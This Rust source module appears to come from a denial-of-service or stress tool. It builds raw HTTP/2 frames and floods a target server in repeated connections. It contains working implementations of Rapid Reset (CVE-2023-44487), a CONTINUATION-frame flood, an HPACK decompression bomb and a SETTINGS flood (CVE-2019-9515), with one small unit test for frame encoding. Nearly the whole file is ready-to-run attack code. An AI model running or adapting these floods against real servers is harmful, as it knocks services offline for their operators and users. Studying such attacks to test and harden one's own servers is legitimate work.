//! Attacks in HTTP/2, frame by frame: RFC 9113, RFC 7541.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use super::{Siege, pause};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// GET, http, /, and an authority, from the static table.
const REQUEST: &[u8] = b"\x82\x86\x84\x41\x0battack.test";
/// Frames or streams in one batch.
const ROW: u32 = 50;
/// The largest stream that is used before a fresh connection is.
const LAST: u32 = 1 << 30;
/// For a write that nobody takes.
const PATIENCE: Duration = Duration::from_millis(100);

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut bytes = length.to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A connection that has said hello.
struct Hostile(TcpStream);

impl Hostile {
    fn open(target: SocketAddr) -> Option<Self> {
        let mut stream = TcpStream::connect_timeout(&target, PATIENCE).ok()?;
        stream.set_write_timeout(Some(PATIENCE)).ok()?;
        stream.set_nodelay(true).ok()?;
        stream.write_all(PREFACE).ok()?;
        stream.write_all(&frame(SETTINGS, 0, 0, &[])).ok()?;
        Some(Self(stream))
    }

    /// Sends, and reads what has come without looking at it; none once the other side has closed.
    fn send(&mut self, bytes: &[u8]) -> Option<()> {
        self.0.write_all(bytes).ok()?;
        self.0.set_nonblocking(true).ok()?;
        let mut buffer = [0; 16 * 1024];
        loop {
            match self.0.read(&mut buffer) {
                Ok(0) => return None,
                Ok(_) => {}
                Err(error) if error.kind() == ErrorKind::WouldBlock => break,
                Err(_) => return None,
            }
        }
        self.0.set_nonblocking(false).ok()
    }
}

/// Opens connections one after the other and does `row` on each with growing stream numbers, as
/// long as it takes it.
fn besiege(
    target: SocketAddr,
    siege: &Siege,
    first: &[u8],
    each: u64,
    mut row: impl FnMut(u32) -> Vec<u8>,
) {
    while siege.goes_on() {
        let opened = Hostile::open(target);
        let opened = opened.and_then(|mut it| it.send(first).map(|()| it));
        let Some(mut connection) = opened else {
            pause();
            continue;
        };
        // Stream 1 may have been used by `first`.
        let mut stream = 3;
        while siege.goes_on() && stream < LAST && connection.send(&row(stream)).is_some() {
            siege.did(each);
            stream += 2 * ROW;
            pause();
        }
    }
}

/// Streams that are opened and given up at once: CVE-2023-44487.
pub(super) fn rapid_reset(target: SocketAddr, siege: &Siege) {
    besiege(target, siege, &[], u64::from(ROW), |first| {
        let streams = (0..ROW).map(|number| first + 2 * number);
        streams
            .flat_map(|stream| {
                let mut bytes = frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST);
                bytes.extend(frame(RST_STREAM, 0, stream, &CANCEL));
                bytes
            })
            .collect()
    });
}

/// A head that goes on in frame after frame: CVE-2024-24549 and its family.
pub(super) fn continuations(target: SocketAddr, siege: &Siege) {
    let begin = frame(HEADERS, END_STREAM, 1, REQUEST);
    // A literal that nobody is to keep: `x-bomb`, 127 bytes.
    let field = [b"\x00\x06x-bomb\x7e".as_slice(), &[b'b'; 126]].concat();
    let part = frame(CONTINUATION, 0, 1, &field.repeat(8));
    besiege(target, siege, &begin, u64::from(ROW), |_| {
        part.repeat(ROW as usize)
    });
}

/// One long field that is put into the table once, and named thousands of times in each head.
pub(super) fn hpack_bomb(target: SocketAddr, siege: &Siege) {
    let name = b"\x40\x06x-bomb".as_slice();
    // 4,000 as a number behind a prefix of seven bits: 127, then 3,873 in sevens.
    let long = [name, &[0x7f, 0xa1, 0x1e], &[b'b'; 4000]].concat();
    let first = frame(
        HEADERS,
        END_STREAM | END_HEADERS,
        1,
        &[b"\x82\x86\x84".as_slice(), &long].concat(),
    );
    // The youngest of the dynamic table is 62.
    let bomb = [b"\x82\x86\x84".as_slice(), &[0xbe; 16_000]].concat();
    besiege(target, siege, &first, 1, |stream| {
        frame(HEADERS, END_STREAM | END_HEADERS, stream, &bomb)
    });
}

/// Settings, each of which wants an answer: CVE-2019-9515.
pub(super) fn settings(target: SocketAddr, siege: &Siege) {
    let frame = frame(SETTINGS, 0, 0, &[]);
    besiege(target, siege, &[], u64::from(ROW), |_| {
        frame.repeat(ROW as usize)
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_have_their_length_kind_flags_and_stream_in_front() {
        let bytes = frame(RST_STREAM, 0, 0x0102_0304, &CANCEL);
        assert_eq!(bytes, [0, 0, 4, 3, 0, 1, 2, 3, 4, 0, 0, 0, 8]);
        assert_eq!(frame(HEADERS, 5, 1, &[0; 300])[..3], [0, 1, 44]);
    }
}
